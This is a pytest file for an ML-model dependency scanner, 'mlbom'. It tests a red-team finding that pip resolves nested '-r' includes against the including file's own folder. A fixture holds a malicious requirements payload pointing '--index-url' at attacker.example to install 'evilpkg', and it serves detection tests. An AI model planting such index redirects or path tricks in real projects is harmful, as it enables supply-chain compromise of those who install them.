"""Red team 81s-3 (proof: /work/redteam-81s/81s-3): pip resolves a nested ``-r``/``-c`` against the
folder of the file that names it (pip's ``req_file.py``: ``os.path.join(os.path.dirname(filename),
path)``), not the model folder. mlbom read ``envs/base.txt``'s ``-r extra.txt`` as the model
folder's benign ``extra.txt`` while pip installs from ``envs/extra.txt``'s index."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from mlbom.scanner import FileScan, scan

MLMODEL = ("flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    env:\n"
           "      virtualenv: python_env.yaml\n")
EVIL = "--index-url https://attacker.example/simple/\nevilpkg\n"


def _model(tmp_path: Path, files: dict[str, str]) -> FileScan:
    d = tmp_path / "m"
    for name, text in {"MLmodel": MLMODEL, "python_env.yaml": "python: 3.11\ndependencies: [-r requirements.txt]\n",
                       **files}.items():
        (d / name).parent.mkdir(parents=True, exist_ok=True)
        (d / name).write_text(text)
    return {Path(r.path).name: r for r in scan([d])}["MLmodel"]


def test_81s3_a_nested_include_resolves_against_its_own_folder(tmp_path: Path) -> None:
    r = _model(tmp_path, {"requirements.txt": "-r envs/base.txt\n", "envs/base.txt": "-r extra.txt\n",
                          "extra.txt": "scikit-learn\n", "envs/extra.txt": EVIL})
    assert r.verdict == "suspicious", r.findings
    assert any("envs/extra.txt" in f.message and "attacker.example" in f.message for f in r.findings), r.findings


def test_81s3_the_folder_s_own_file_stays_clean(tmp_path: Path) -> None:
    r = _model(tmp_path, {"requirements.txt": "-r envs/base.txt\n", "envs/base.txt": "-r extra.txt\n",
                          "extra.txt": EVIL, "envs/extra.txt": "scikit-learn\n"})
    assert r.verdict == "safe", r.findings


@pytest.mark.parametrize(("base", "include"), [("envs/base.txt", "../../x.txt"), ("a/b/base.txt", "../../../x.txt")])
def test_81s3_climbing_out_from_a_sub_folder_is_outside(tmp_path: Path, base: str, include: str) -> None:
    r = _model(tmp_path, {"requirements.txt": f"-r {base}\n", base: f"-r {include}\n"})
    assert r.verdict == "suspicious" and any("outside the model folder" in f.message for f in r.findings), r.findings


def test_81s3_climbing_back_inside_fails_closed(tmp_path: Path) -> None:
    """``envs/../extra.txt`` is ``extra.txt`` only when ``envs`` is no link (the OS follows the link
    before ``..``): mlbom does not normalise it and calls it outside."""
    r = _model(tmp_path, {"requirements.txt": "-r envs/base.txt\n", "envs/base.txt": "-r ../extra.txt\n",
                          "extra.txt": "numpy\n"})
    assert r.verdict == "suspicious" and any("envs/../extra.txt" in f.message for f in r.findings), r.findings


def test_81s3_pip_reads_the_including_file_s_folder(tmp_path: Path) -> None:
    """pip itself (``pip install --dry-run --no-index``) reports the requirement named in
    ``envs/extra.txt``, not the model folder's ``extra.txt``."""
    d = tmp_path / "p"
    (d / "envs").mkdir(parents=True)
    (d / "requirements.txt").write_text("-r envs/base.txt\n")
    (d / "envs/base.txt").write_text("-r extra.txt\n")
    (d / "extra.txt").write_text("rootpkg-81s\n")
    (d / "envs/extra.txt").write_text("nestedpkg-81s\n")
    out = subprocess.run([sys.executable, "-m", "pip", "install", "--dry-run", "--no-index", "-r", "requirements.txt"],
                         cwd=d, capture_output=True, text=True, timeout=120)
    text = out.stdout + out.stderr
    if "No module named pip" in text:
        pytest.skip("pip is not installed in this interpreter")
    assert "nestedpkg-81s" in text and "rootpkg-81s" not in text, text
